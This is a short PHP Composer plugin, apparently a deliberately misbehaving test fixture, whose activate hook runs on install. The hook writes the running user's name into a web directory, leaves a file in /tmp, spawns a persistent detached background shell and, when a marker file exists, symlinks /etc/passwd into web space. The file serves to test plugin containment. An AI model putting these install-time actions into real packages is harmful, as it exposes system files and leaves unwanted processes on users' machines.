<?php
namespace Lodger;

use Composer\Composer;
use Composer\IO\IOInterface;
use Composer\Plugin\PluginInterface;

/** What no plug-in should do: it says who it is, stays when composer has ended, and leaves something behind. */
final class Plugin implements PluginInterface
{
    public function activate(Composer $composer, IOInterface $io): void
    {
        file_put_contents('web/who.txt', exec('id -un'));
        file_put_contents('/tmp/lodger', 'left behind');
        exec('setsid sh -c "while :; do sleep 1000; done" > /dev/null &');
        if (file_exists('lead-out')) {
            symlink('/etc/passwd', 'web/passwd.txt');
        }
        if (file_exists('refuse')) {
            throw new \RuntimeException('the lodger refuses');
        }
    }

    public function deactivate(Composer $composer, IOInterface $io): void
    {
    }

    public function uninstall(Composer $composer, IOInterface $io): void
    {
    }
}
